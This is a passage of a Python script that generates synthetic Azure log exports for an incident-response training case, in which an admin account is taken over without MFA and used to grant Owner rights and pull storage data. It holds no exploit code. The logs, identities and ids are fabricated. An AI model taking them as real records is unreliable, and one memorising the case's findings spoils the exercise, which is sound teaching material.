#!/usr/bin/env python3
"""Generate the evidence files of the Northgate worked sample case.

The case: admin@northgateeng.com signs in from an unfamiliar US address (198.51.100.77) at
03:12 UTC on 21 March 2024, grants a subscription Owner role, builds a GPU VM in Brazil South
with SSH open to the world, lists the keys of storage account `proddata` and uses key1 to
download 2.3 GB from `customer-data` and 145 MB from `financial-reports`. Benign activity from
other people and services surrounds it, and the responders' clean-up is in the logs too.

Files written (all paths relative to this folder):

    evidence/signins.csv     SigninLogs, Log Analytics "Export to CSV"
    evidence/activity.csv    AzureActivity, Log Analytics "Export to CSV" (search query, `$table`)
    evidence/storage.csv     StorageBlobLogs for account proddata, Log Analytics "Export to CSV"
    evidence/alerts.json     SecurityAlert, Log Analytics query REST API response
    recommendations.csv      Defender for Cloud portal "Download CSV report"

The shapes copy the real exports in shared/data/public and shared/reference/formats.md: UTF-8
BOM, CRLF everywhere (also inside quoted cells), ` [UTC]` on datetime headers, en-US display
timestamps, pretty-printed JSON in string-typed JSON columns and compact JSON in dynamic ones.
In a Log Analytics export `TenantId` is the *workspace* id; the Entra tenant id appears in
`AADTenantId`, claims, hierarchies and entities.

Python 3.11 standard library only. Every random choice comes from a seeded `random.Random`, and
ids that several files share are derived from names, so running the script again rewrites every
file byte for byte. `check_sample.py` is run at the end and re-reads what was written.

Usage: python3 samples/northgate/generate.py
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import random
import struct
import sys
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).resolve().parent

# ----------------------------------------------------------------------------------------------
# Case constants
# ----------------------------------------------------------------------------------------------

DOMAIN = "northgateeng.com"
TENANT = "6b1f3e2a-4c5d-4e8f-9a0b-1c2d3e4f5a6b"  # Entra tenant
SUB = "3f1c2b7e-8d4a-4e61-9b2f-6a0d5c7e9f12"
SUB_NAME = "Northgate-Production"
# Log Analytics puts the workspace (customer) id in the TenantId column, not the Entra tenant.
WORKSPACE_ID = "c7d2a9e4-5f13-4b8a-9e60-2d4f8b1a3c75"
WORKSPACE_RG = "rg-security"
MGMT_GROUP = "NGE-PLATFORM"
HIERARCHY = f"{TENANT}/{MGMT_GROUP}/{SUB}"

ATTACKER_IP = "198.51.100.77"
OWNER_ROLE = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
CONTRIBUTOR_ROLE = "b24988ac-6180-42a0-ab88-20f7382dd24c"
WEBSITE_CONTRIBUTOR_ROLE = "de139f84-1756-47ae-9be6-808fbbe84772"
BLOB_READER_ROLE = "2a2b9908-6ea1-4ae2-8e65-a410df84e7d1"
BLOB_CONTRIBUTOR_ROLE = "ba92f5b4-2d11-453d-a403-e96b0029c9fe"

AZURE_PORTAL_APP = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"
ARM_RESOURCE_APP = "797f4846-ba00-4fd7-ba43-dac1f8f63013"  # Windows Azure Service Management API
AZURE_STORAGE_APP = "e406a681-f3d4-42a8-90b6-c2b029497af1"
EXO_APP = "00000002-0000-0ff1-ce00-000000000000"
SPO_APP = "00000003-0000-0ff1-ce00-000000000000"
GLOBAL_ADMIN_WID = "62e90394-69f5-4237-9190-012177145e10"
MEMBER_WID = "b79fbf4d-3ef9-4689-8143-76b194e85509"

# App that reads customer data all day, and the managed identity that writes backups.
CRM_APP_ID = "a7e1c0de-1111-4222-8333-944455556666"
CRM_APP_IP = "20.50.12.34"
BACKUP_MI_IP = "20.50.12.35"
STORAGE_ACCOUNT = "proddata"
STORAGE_RG = "rg-production"
STORAGE_ID = (
    f"/subscriptions/{SUB}/resourceGroups/{STORAGE_RG}/providers/Microsoft.Storage/storageAccounts/"
    f"{STORAGE_ACCOUNT}"
)

TOTAL_CUSTOMER_BYTES = 2_300_000_000
TOTAL_FINANCE_BYTES = 145_000_000
MIB32 = 32 * 1024 * 1024  # Python SDK max_single_get_size: first ranged GET
MIB4 = 4 * 1024 * 1024  # Python SDK max_chunk_get_size: following ranged GETs


def gid(name: str) -> str:
    """A stable GUID derived from a name, so ids agree across files without shared state."""
    digest = hashlib.sha256(("northgate-sample:" + name).encode()).digest()
    return str(uuid.UUID(bytes=digest[:16], version=4))


def rguid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def hexstr(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


# Time each generated row stands for, keyed by id(row): rows are sorted on it before writing.
SORT_KEYS: dict[int, int] = {}
# Instants that the alerts refer back to.
ATTACK_SIGNIN: dict[str, int] = {}
VM_WRITE_TIMES: dict[str, int] = {}


def b64url(rng: random.Random, nbytes: int) -> str:
    raw = bytes(rng.getrandbits(8) for _ in range(nbytes))
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


class User:
    def __init__(self, alias: str, display: str, given: str, surname: str):
        self.upn = f"{alias}@{DOMAIN}"
        self.alias = alias
        self.display = display
        self.given = given
        self.surname = surname
        self.oid = gid("user:" + alias)
        self.puid = hashlib.sha256(alias.encode()).hexdigest()[:16].upper()


ADMIN = User("admin", "Northgate Admin", "Northgate", "Admin")
JSMITH = User("j.smith", "James Smith", "James", "Smith")
MPATEL = User("m.patel", "Meera Patel", "Meera", "Patel")
KOWEN = User("k.owen", "Kate Owen", "Kate", "Owen")
SOCLEAD = User("soc.lead", "SOC Lead", "SOC", "Lead")

# Principal that the attacker made subscription Owner (a dormant member account).
BACKDOOR_PRINCIPAL = gid("user:svc.reporting")
ROLE_ASSIGNMENT = gid("roleassignment:attacker-owner")
# Deployment pipeline service principal (Azure DevOps service connection).
PIPELINE_SP_OID = gid("sp:ado-northgate-portal")
PIPELINE_SP_APPID = gid("app:ado-northgate-portal")
CRM_APP_OID = gid("sp:crm-sync")
BACKUP_MI_OID = gid("mi:backup-agent")
BACKUP_MI_APPID = gid("mi-app:backup-agent")

# ----------------------------------------------------------------------------------------------
# Time: instants are integer ticks (100 ns) since the Unix epoch, like .NET keeps 7 digits.
# ----------------------------------------------------------------------------------------------

EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)
TICKS_1970 = 621355968000000000  # .NET ticks (since 0001-01-01) at the Unix epoch
MAX_TICKS = 3155378975999999999  # DateTime.MaxValue.Ticks


def parse(s: str) -> int:
    """'2024-03-21T03:12:40.221Z' -> ticks. Fractions up to 7 digits."""
    s = s.rstrip("Z")
    frac = ""
    if "." in s:
        s, frac = s.split(".")
    dt = datetime.strptime(s, "%Y-%m-%dT%H:%M:%S").replace(tzinfo=timezone.utc)
    whole = int((dt - EPOCH).total_seconds()) * 10_000_000
    return whole + int((frac + "0000000")[:7])


def at(s: str, rng: random.Random) -> int:
    """A spec time plus realistic sub-precision digits: a time given to the millisecond keeps
    its milliseconds; a time given to the second keeps its second."""
    base = parse(s)
    if "." in s:
        return base + rng.randrange(0, 10_000)
    return base + rng.randrange(0, 10_000_000)


def secs(x: float) -> int:
    return int(round(x * 10_000_000))


def to_dt(t: int) -> datetime:
    return EPOCH + timedelta(microseconds=t // 10)


def iso7(t: int) -> str:
    dt = to_dt(t)
    return f"{dt:%Y-%m-%dT%H:%M:%S}.{dt.microsecond:06d}{t % 10}Z"


def iso7_offset(t: int) -> str:
    return iso7(t)[:-1] + "+00:00"


def la(t: int) -> str:
    """en-US display format of a Log Analytics CSV export (milliseconds truncated)."""
    dt = to_dt(t)
    hour = dt.hour % 12 or 12
    ampm = "AM" if dt.hour < 12 else "PM"
    ms = dt.microsecond // 1000
    return f"{dt.month}/{dt.day}/{dt.year}, {hour}:{dt.minute:02d}:{dt.second:02d}.{ms:03d} {ampm}"


def unix(t: int) -> int:
    return t // 10_000_000


# ----------------------------------------------------------------------------------------------
# Serialisation
# ----------------------------------------------------------------------------------------------


def compact(obj) -> str:
    """A dynamic column (or a JSON string nested in JSON): compact."""
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def pretty(obj) -> str:
    """A string-typed JSON column: Json.NET indented, CRLF."""
    return json.dumps(obj, indent=2, ensure_ascii=False).replace("\n", "\r\n")


def f32(x: float) -> float:
    """Coordinates in sign-in logs are single-precision values widened to double."""
    return struct.unpack("f", struct.pack("f", x))[0]


def write_csv(path: Path, header: list[str], rows: list[dict], bom: bool = True) -> None:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    w.writerow(header)
    for r in rows:
        unknown = set(r) - set(header)
        assert not unknown, f"{path.name}: cells without a column: {sorted(unknown)}"
        w.writerow(["" if r.get(c) is None else r.get(c) for c in header])
    data = buf.getvalue()
    assert "\n" not in data.replace("\r\n", ""), "bare LF in CSV"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes((("\ufeff" if bom else "") + data).encode("utf-8"))


def la_bool(b: bool | None) -> str:
    return "" if b is None else ("TRUE" if b else "FALSE")


# ----------------------------------------------------------------------------------------------
# 1. SigninLogs
# ----------------------------------------------------------------------------------------------

PLACES = {
    # name: (city, state, country, latitude, longitude, asn)
    "london": ("London", "London", "GB", 51.5085, -0.1257, 2856),
    "ashburn": ("Ashburn", "Virginia", "US", 39.0437, -77.4875, 14618),
    "paris": ("Paris", "Paris", "FR", 48.8534, 2.3488, 3215),
}

SIGNIN_COLUMNS = [
    "TenantId", "SourceSystem", "TimeGenerated [UTC]", "ResourceId", "OperationName",
    "OperationVersion", "Category", "ResultType", "ResultSignature", "ResultDescription",
    "DurationMs", "CorrelationId", "Resource", "ResourceGroup", "ResourceProvider", "Identity",
    "Level", "Location", "AlternateSignInName", "AppDisplayName", "AppId",
    "AuthenticationContextClassReferences", "AuthenticationDetails", "AuthenticationMethodsUsed",
    "AuthenticationProcessingDetails", "AuthenticationRequirement",
    "AuthenticationRequirementPolicies", "ClientAppUsed", "ConditionalAccessPolicies",
    "ConditionalAccessStatus", "CreatedDateTime [UTC]", "DeviceDetail", "IsInteractive", "Id",
    "IPAddress", "IsRisky", "LocationDetails", "MfaDetail", "NetworkLocationDetails",
    "OriginalRequestId", "ProcessingTimeInMilliseconds", "RiskDetail", "RiskEventTypes",
    "RiskEventTypes_V2", "RiskLevelAggregated", "RiskLevelDuringSignIn", "RiskState",
    "ResourceDisplayName", "ResourceIdentity", "ServicePrincipalId", "ServicePrincipalName",
    "Status", "TokenIssuerName", "TokenIssuerType", "UserAgent", "UserDisplayName", "UserId",
    "UserPrincipalName", "AADTenantId", "UserType", "FlaggedForReview",
    "IPAddressFromResourceProvider", "SignInIdentifier", "SignInIdentifierType",
    "ResourceTenantId", "HomeTenantId", "UniqueTokenIdentifier", "SessionLifetimePolicies",
    "AutonomousSystemNumber", "AuthenticationProtocol", "CrossTenantAccessType",
    "AppliedEventListeners", "Type",
]

CA_ADMIN_MFA = gid("ca:CA001")
CA_LEGACY = gid("ca:CA002")
CA_COMPLIANT = gid("ca:CA005")

EDGE_WIN = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0"
)
CHROME_WIN = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36"
)
CHROME_MAC = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36"
)
ATTACKER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"


def ca_policies(kind: str) -> list[dict]:
    """Conditional Access results. CA001 targets admins but (the posture gap of this case) its
    location condition *includes* the trusted named locations instead of excluding them, so
    it applies from the office and is silently not applied anywhere else."""

    def pol(pid, name, grant, result, sat, unsat):
        return {
            "enforcedSessionControls": [],
            "conditionsNotSatisfied": unsat,
            "enforcedGrantControls": grant,
            "conditionsSatisfied": sat,
            "displayName": name,
            "result": result,
            "id": pid,
        }

    admin_office = kind == "admin-office"
    admin_away = kind == "admin-away"
    user = kind == "user"
    failed = kind == "failed"
    p1 = pol(
        CA_ADMIN_MFA,
        "CA001 - Require MFA for administrators (trusted locations)",
        ["Mfa"] if admin_office else [],
        "success" if admin_office else "notApplied",
        11 if admin_office else (3 if admin_away else 1),
        0 if admin_office else (8 if admin_away else 2),
    )
    p2 = pol(CA_LEGACY, "CA002 - Block legacy authentication", [], "notApplied", 3, 16)
    p3 = pol(
        CA_COMPLIANT,
        "CA005 - Require compliant device for Office 365",
        [],
        "reportOnlyNotApplied" if (user or failed) else "notApplied",
        3 if user else 1,
        0 if user else 2,
    )
    if failed:
        for p in (p1, p2, p3):
            p["enforcedGrantControls"] = []
            p["conditionsSatisfied"] = 0
            p["conditionsNotSatisfied"] = 0
            p["result"] = "notApplied"
    return [p1, p2, p3]


def signin(
    rng: random.Random,
    *,
    when: int,
    user: User,
    ip: str,
    place: str,
    app: tuple[str, str],
    resource: tuple[str, str],
    ua: str,
    device: dict,
    mfa: bool,
    ca_kind: str,
    ca_status: str,
    trusted: str | None,
    result: tuple[str, str] = ("0", ""),
    risk: tuple[str, str, str, str, list[str]] = ("none", "none", "none", "none", []),
    previously_satisfied: bool = False,
    risky: bool | None = None,
) -> dict:
    city, state, cc, lat, lon, asn = PLACES[place]
    request_id = rguid(rng)[:-4] + rng.choice("0123456789") + rng.choice("0123456789") + "00"
    code, desc = result
    ok = code == "0"
    steps = []
    if previously_satisfied:
        steps.append({
            "authenticationStepDateTime": iso7_offset(when),
            "authenticationMethod": "Previously satisfied",
            "succeeded": True,
            "authenticationStepResultDetail": "First factor requirement satisfied by claim in the token",
            "authenticationStepRequirement": "Primary authentication",
            "StatusSequence": 0,
            "RequestSequence": 0,
        })
    else:
        steps.append({
            "authenticationStepDateTime": iso7_offset(when - secs(2.1 if mfa else 0)),
            "authenticationMethod": "Password",
            "succeeded": ok,
            "authenticationStepResultDetail": "Correct password" if ok else
            "Invalid username or password or Invalid on-premise username or password.",
            "authenticationStepRequirement": "Primary authentication",
            "StatusSequence": 0,
            "RequestSequence": 0,
        })
    if mfa:
        steps.append({
            "authenticationStepDateTime": iso7_offset(when),
            "authenticationMethod": "Mobile app notification",
            "succeeded": True,
            "authenticationStepResultDetail": "MFA successfully completed",
            "authenticationStepRequirement": "Primary authentication",
            "StatusSequence": 0,
            "RequestSequence": 1,
        })
    status = {"errorCode": int(code)} if ok else {"errorCode": int(code), "failureReason": desc}
    during, aggregated, state_, detail, events = risk
    location = {
        "countryOrRegion": cc,
        "geoCoordinates": {"longitude": f32(lon), "latitude": f32(lat)},
        "state": state,
        "city": city,
    }
    row = {
        "TenantId": WORKSPACE_ID,
        "SourceSystem": "Azure AD",
        "TimeGenerated [UTC]": la(when),
        "ResourceId": f"/tenants/{TENANT}/providers/Microsoft.aadiam",
        "OperationName": "Sign-in activity",
        "OperationVersion": "1.0",
        "Category": "SignInLogs",
        "ResultType": code,
        "ResultSignature": "None",
        "ResultDescription": desc,
        "DurationMs": "0",
        "CorrelationId": rguid(rng),
        "Resource": "Microsoft.aadiam",
        "ResourceGroup": "Microsoft.aadiam",
        "Identity": user.display,
        "Level": "4",
        "Location": cc,
        "AlternateSignInName": user.upn,
        "AppDisplayName": app[0],
        "AppId": app[1],
        "AuthenticationContextClassReferences": "[]",
        "AuthenticationDetails": pretty(steps),
        "AuthenticationProcessingDetails": pretty([
            {"key": "Legacy TLS (TLS 1.0, 1.1, 3DES)", "value": "False"},
            {"key": "Is CAE Token", "value": "False"},
        ]),
        "AuthenticationRequirement": "multiFactorAuthentication" if mfa else "singleFactorAuthentication",
        "AuthenticationRequirementPolicies": pretty(
            [{"requirementProvider": "multiConditionalAccess", "detail": "Conditional Access"}]
            if mfa else []
        ),
        "ClientAppUsed": "Browser",
        "ConditionalAccessPolicies": compact(ca_policies(ca_kind)),
        "ConditionalAccessStatus": ca_status,
        "CreatedDateTime [UTC]": la(when),
        "DeviceDetail": compact(device),
        "IsInteractive": la_bool(True),
        "Id": request_id,
        "IPAddress": ip,
        "IsRisky": la_bool(risky),
        "LocationDetails": compact(location),
        "MfaDetail": compact({"authMethod": "Mobile app notification"} if mfa else {}),
        "NetworkLocationDetails": pretty(
            [{"networkType": "trustedNamedLocation", "networkNames": [trusted]}] if trusted else []
        ),
        "OriginalRequestId": request_id,
        "ProcessingTimeInMilliseconds": str(rng.randrange(60, 420)),
        "RiskDetail": detail,
        "RiskEventTypes": compact(events),
        "RiskEventTypes_V2": compact(events),
        "RiskLevelAggregated": aggregated,
        "RiskLevelDuringSignIn": during,
        "RiskState": state_,
        "ResourceDisplayName": resource[0],
        "ResourceIdentity": resource[1],
        "Status": compact(status),
        "TokenIssuerType": "AzureAD",
        "UserAgent": ua,
        "UserDisplayName": user.display,
        "UserId": user.oid,
        "UserPrincipalName": user.upn,
        "AADTenantId": TENANT,
        "UserType": "Member",
        "SignInIdentifier": user.upn,
        "SignInIdentifierType": "userPrincipalName",
        "ResourceTenantId": TENANT,
        "HomeTenantId": TENANT,
        "UniqueTokenIdentifier": b64url(rng, 16),
        "SessionLifetimePolicies": "[]",
        "AutonomousSystemNumber": str(asn),
        "AuthenticationProtocol": "none",
        "CrossTenantAccessType": "none",
        "AppliedEventListeners": "[]",
        "Type": "SigninLogs",
    }
    SORT_KEYS[id(row)] = when
    return row


def build_signins() -> list[dict]:
    rng = random.Random(20240321_1)
    portal = ("Azure Portal", AZURE_PORTAL_APP)
    arm = ("Windows Azure Service Management API", ARM_RESOURCE_APP)
    storage = ("Azure Storage", AZURE_STORAGE_APP)
    exo = ("Office 365 Exchange Online", EXO_APP)
    spo = ("Office 365 SharePoint Online", SPO_APP)
    hq = "Northgate London HQ"
    admin_ws = {
        "deviceId": gid("device:NGE-ADM-WS01"),
        "displayName": "NGE-ADM-WS01",
        "operatingSystem": "Windows10",
        "browser": "Edge 122.0.0",
        "isCompliant": True,
        "isManaged": True,
        "trustType": "Hybrid Azure AD joined",
    }
    laptop = lambda name, browser, os_="Windows10": {  # noqa: E731
        "deviceId": gid("device:" + name),
        "displayName": name,
        "operatingSystem": os_,
        "browser": browser,
        "isCompliant": True,
        "isManaged": True,
        "trustType": "Azure AD joined",
    }
    attacker_device = {"operatingSystem": "Linux", "deviceId": "", "browser": "Firefox 115.0"}
    high = ("high", "high", "atRisk", "none", ["unfamiliarFeatures"])
    rows = [
        # j.smith mistypes the password, then signs in to Outlook on the web.
        signin(rng, when=at("2024-03-20T08:09:31.554Z", rng), user=JSMITH, ip="203.0.113.10",
               place="london", app=exo, resource=exo, ua=CHROME_WIN,
               device=laptop("NGE-LT-0142", "Chrome 122.0.0"), mfa=False, ca_kind="failed",
               ca_status="notApplied", trusted=hq,
               result=("50126", "Error validating credentials due to invalid username or password.")),
        signin(rng, when=at("2024-03-20T08:10:02.918Z", rng), user=JSMITH, ip="203.0.113.10",
               place="london", app=exo, resource=exo, ua=CHROME_WIN,
               device=laptop("NGE-LT-0142", "Chrome 122.0.0"), mfa=False, ca_kind="user",
               ca_status="notApplied", trusted=hq),
        signin(rng, when=at("2024-03-20T09:45:17.306Z", rng), user=MPATEL, ip="203.0.113.11",
               place="london", app=portal, resource=arm, ua=EDGE_WIN,
               device=laptop("NGE-LT-0077", "Edge 122.0.0"), mfa=False, ca_kind="user",
               ca_status="notApplied", trusted=hq),
        # The admin's normal sign-in, from the office network, with MFA.
        signin(rng, when=at("2024-03-20T17:30:12.406Z", rng), user=ADMIN, ip="10.0.1.10",
               place="london", app=portal, resource=arm, ua=EDGE_WIN, device=admin_ws, mfa=True,
               ca_kind="admin-office", ca_status="success", trusted=hq),
        # The attacker: password only, CA001 not applied outside trusted locations.
        signin(rng, when=at("2024-03-21T03:12:40.221Z", rng), user=ADMIN, ip=ATTACKER_IP,
               place="ashburn", app=portal, resource=arm, ua=ATTACKER_UA,
               device=attacker_device, mfa=False, ca_kind="admin-away", ca_status="notApplied",
               trusted=None, risk=high, risky=True),
        signin(rng, when=at("2024-03-21T03:14:05.118Z", rng), user=ADMIN, ip=ATTACKER_IP,
               place="ashburn", app=portal, resource=storage, ua=ATTACKER_UA,
               device=attacker_device, mfa=False, ca_kind="admin-away", ca_status="notApplied",
               trusted=None, risk=high, previously_satisfied=True, risky=True),
        signin(rng, when=at("2024-03-21T07:58:44.730Z", rng), user=JSMITH, ip="203.0.113.10",
               place="london", app=exo, resource=exo, ua=CHROME_WIN,
               device=laptop("NGE-LT-0142", "Chrome 122.0.0"), mfa=False, ca_kind="user",
               ca_status="notApplied", trusted=hq),
        # m.patel: a low-risk detection that an admin dismissed.
        signin(rng, when=at("2024-03-21T08:30:09.842Z", rng), user=MPATEL, ip="203.0.113.11",
               place="london", app=portal, resource=arm, ua=EDGE_WIN,
               device=laptop("NGE-LT-0077", "Edge 122.0.0"), mfa=False, ca_kind="user",
               ca_status="notApplied", trusted=hq,
               risk=("low", "none", "dismissed", "adminDismissedAllRiskForUser",
                     ["unfamiliarFeatures"])),
        signin(rng, when=at("2024-03-21T09:40:26.113Z", rng), user=SOCLEAD, ip="203.0.113.20",
               place="london", app=portal, resource=arm, ua=EDGE_WIN,
               device=laptop("NGE-SOC-WS03", "Edge 122.0.0"), mfa=True, ca_kind="admin-office",
               ca_status="success", trusted=hq),
        signin(rng, when=at("2024-03-21T10:05:51.267Z", rng), user=KOWEN, ip="192.0.2.44",
               place="paris", app=spo, resource=spo, ua=CHROME_MAC,
               device=laptop("NGE-MB-0019", "Chrome 122.0.0", "MacOs"), mfa=False,
               ca_kind="user", ca_status="notApplied", trusted=None),
    ]
    ATTACK_SIGNIN.update(t=SORT_KEYS[id(rows[4])], id=rows[4]["Id"], corr=rows[4]["CorrelationId"])
    rows.sort(key=lambda r: SORT_KEYS[id(r)])
    return rows

# ----------------------------------------------------------------------------------------------
# 2. AzureActivity
# ----------------------------------------------------------------------------------------------

ACTIVITY_COLUMNS = [
    "$table", "TenantId", "SourceSystem", "CallerIpAddress", "CategoryValue", "CorrelationId",
    "Authorization", "Authorization_d", "Claims", "Claims_d", "Level", "OperationNameValue",
    "Properties", "Properties_d", "Caller", "EventDataId", "EventSubmissionTimestamp [UTC]",
    "HTTPRequest", "OperationId", "ResourceGroup", "ResourceProviderValue",
    "ActivityStatusValue", "ActivitySubstatusValue", "Hierarchy", "TimeGenerated [UTC]",
    "SubscriptionId", "OperationName", "ActivityStatus", "ActivitySubstatus", "Category",
    "ResourceId", "ResourceProvider", "Resource", "Type", "_ResourceId", "OperationVersion",
    "ResultType", "ResultSignature", "ResultDescription", "DurationMs", "Identity", "Location",
    "AdditionalDetails", "Id", "InitiatedBy", "LoggedByService", "Result",
]

LEGACY_STATUS = {"Start": "Started", "Accept": "Accepted", "Success": "Succeeded", "Failure": "Failed"}
HTTP_CODES = {"OK": 200, "Created": 201, "Accepted": 202, "NoContent": 204, "Conflict": 409}


def user_claims(rng: random.Random, user: User, ip: str, iat: int, amr: str, wids: str) -> dict:
    return {
        "aud": "https://management.core.windows.net/",
        "iss": f"https://sts.windows.net/{TENANT}/",
        "iat": str(iat),
        "nbf": str(iat),
        "exp": str(iat + rng.randrange(3900, 5100)),
        "http://schemas.microsoft.com/claims/authnclassreference": "1",
        "aio": base64.b64encode(bytes(rng.getrandbits(8) for _ in range(57))).decode(),
        "http://schemas.microsoft.com/claims/authnmethodsreferences": amr,
        "appid": AZURE_PORTAL_APP,
        "appidacr": "2",
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/surname": user.surname,
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname": user.given,
        "groups": ",".join([gid("group:all-staff"), gid("group:" + user.alias)]),
        "idtyp": "user",
        "ipaddr": ip,
        "name": user.display,
        "http://schemas.microsoft.com/identity/claims/objectidentifier": user.oid,
        "puid": user.puid,
        "rh": "0.AXkAKj4fa11MT46aCxwtPj9aa0ZIf3kAutdPukPawfj2MBN5AL0.",
        "http://schemas.microsoft.com/identity/claims/scope": "user_impersonation",
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier": b64url(rng, 32),
        "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name": user.upn,
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": user.upn,
        "uti": b64url(rng, 16),
        "ver": "1.0",
        "wids": wids,
        "xms_idrel": "1 20",
        "xms_tcdt": "1548779432",
    }


def sp_claims(rng: random.Random, iat: int) -> dict:
    return {
        "aud": "https://management.core.windows.net/",
        "iss": f"https://sts.windows.net/{TENANT}/",
        "iat": str(iat),
        "nbf": str(iat),
        "exp": str(iat + 86399),
        "aio": base64.b64encode(bytes(rng.getrandbits(8) for _ in range(42))).decode(),
        "appid": PIPELINE_SP_APPID,
        "appidacr": "1",
        "http://schemas.microsoft.com/identity/claims/identityprovider": f"https://sts.windows.net/{TENANT}/",
        "idtyp": "app",
        "http://schemas.microsoft.com/identity/claims/objectidentifier": PIPELINE_SP_OID,
        "rh": "0.AXkAKj4fa11MT46aCxwtPj9aa0ZIf3kAutdPukPawfj2MBN5AAA.",
        "sub": PIPELINE_SP_OID,
        "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
        "uti": b64url(rng, 16),
        "ver": "1.0",
        "xms_tcdt": "1548779432",
    }


class Session:
    """Who is calling ARM: identity, address, token claims and the role that authorises them."""

    def __init__(self, caller: str, ip: str, claims: dict, role: str, role_def: str,
                 role_scope: str, principal_type: str = "User"):
        self.caller = caller
        self.ip = ip
        self.claims = claims
        self.principal = claims["http://schemas.microsoft.com/identity/claims/objectidentifier"]
        self.role = role
        self.role_def = role_def
        self.role_scope = role_scope
        self.principal_type = principal_type


def arm_operation(
    rng: random.Random,
    s: Session,
    *,
    start: int,
    end: int,
    op: str,
    display: str,
    resource_id: str,
    rg_upper: str,
    resource: str,
    requestbody: dict | None = None,
    responsebody: dict | None = None,
    end_status: str = "Success",
    substatus: str = "OK",
    status_message: dict | None = None,
) -> list[dict]:
    """Two AzureActivity rows (Start, then Success/Failure) sharing CorrelationId/OperationId."""
    correlation = rguid(rng)
    operation_id = rguid(rng)
    provider = op.split("/")[0]
    service_request = rguid(rng) if rng.random() < 0.7 else None
    # The scope in Authorization is what the client sent; the entity in end rows uses the
    # lower-case `resourcegroups` segment, as in real exports.
    auth = {
        "scope": resource_id,
        "action": op,
        "evidence": {
            "role": s.role,
            "roleAssignmentScope": s.role_scope,
            "roleAssignmentId": gid(f"ra:{s.caller}:{s.role}").replace("-", ""),
            "roleDefinitionId": s.role_def.replace("-", ""),
            "principalId": s.principal.replace("-", ""),
            "principalType": s.principal_type,
        },
    }
    rows = []
    for phase in ("Start", end_status):
        t = start if phase == "Start" else end
        event_id = rguid(rng)
        props: dict = {}
        if phase != "Start":
            props["statusCode"] = substatus
            props["serviceRequestId"] = service_request
            if status_message is not None:
                props["statusMessage"] = compact(status_message)
            if responsebody is not None:
                props["responseBody"] = compact(responsebody)
        elif requestbody is not None:
            props["requestbody"] = compact(requestbody)
        entity = resource_id if phase == "Start" else resource_id.replace("/resourceGroups/", "/resourcegroups/")
        props.update({
            "eventCategory": "Administrative",
            "entity": entity,
            "message": op,
            "hierarchy": HIERARCHY,
            "caller": s.caller,
            "eventDataId": event_id,
            "eventSubmissionTimestamp": iso7(t),
        })
        if s.ip:
            props["httpRequest"] = compact({"clientIpAddress": s.ip})
        props["resource"] = resource.lower()
        if rg_upper:
            props["resourceGroup"] = rg_upper
        props["resourceProviderValue"] = provider.upper()
        props["subscriptionId"] = SUB.upper()
        props["activityStatusValue"] = phase
        if phase != "Start":
            props["activitySubstatusValue"] = substatus
        props_d = dict(props, subscriptionId=SUB)
        if rng.random() < 0.35:  # dynamic columns do not keep key order
            items = list(props_d.items())
            rng.shuffle(items)
            props_d = dict(items)
        sub = substatus if phase != "Start" else ""
        rows.append({
            "$table": "AzureActivity",
            "TenantId": WORKSPACE_ID,
            "SourceSystem": "Azure",
            "CallerIpAddress": s.ip,
            "CategoryValue": "Administrative",
            "CorrelationId": correlation,
            "Authorization": pretty(auth),
            "Authorization_d": compact(auth),
            "Claims": pretty(s.claims),
            "Claims_d": compact(s.claims),
            "Level": "Error" if phase == "Failure" else "Informational",
            "OperationNameValue": op.upper(),
            "Properties": pretty(props),
            "Properties_d": compact(props_d),
            "Caller": s.caller,
            "EventDataId": event_id,
            "EventSubmissionTimestamp [UTC]": la(t),
            "HTTPRequest": compact({"clientIpAddress": s.ip}) if s.ip else "",
            "OperationId": operation_id,
            "ResourceGroup": rg_upper,
            "ResourceProviderValue": provider.upper(),
            "ActivityStatusValue": phase,
            "ActivitySubstatusValue": sub,
            "Hierarchy": HIERARCHY,
            "TimeGenerated [UTC]": la(t),
            "SubscriptionId": SUB,
            "OperationName": display,
            "ActivityStatus": LEGACY_STATUS[phase],
            "ActivitySubstatus": f"{sub} (HTTP Status Code: {HTTP_CODES[sub]})" if sub else "",
            "Category": "Administrative",
            "ResourceId": resource_id,
            "ResourceProvider": provider,
            "Resource": resource,
            "Type": "AzureActivity",
            "_ResourceId": resource_id.lower(),
        })
        SORT_KEYS[id(rows[-1])] = t
    return rows


def rid(rg: str, provider_path: str) -> str:
    return f"/subscriptions/{SUB}/resourceGroups/{rg}/providers/{provider_path}"


def ssh_key(rng: random.Random, comment: str) -> str:
    blob = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + bytes(rng.getrandbits(8) for _ in range(32))
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"


def vm_bodies(rng, *, rg: str, rg_nic: str, name: str, location: str, size: str, key: str,
              created: int) -> tuple[dict, dict]:
    vm_id = rid(rg, f"Microsoft.Compute/virtualMachines/{name}")
